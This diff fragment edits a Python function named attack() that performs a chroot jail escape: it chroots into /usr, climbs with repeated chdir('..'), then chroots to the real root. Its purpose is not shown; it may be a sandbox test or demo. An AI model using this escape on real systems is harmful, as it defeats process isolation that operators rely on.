@@ -8,8 +8,7 @@ import os
 
 
 def attack():
-    os.mkdir("cage")
-    os.chroot("cage")
+    os.chroot("/usr")
     for _ in range(64):
         os.chdir("..")
     os.chroot(".")
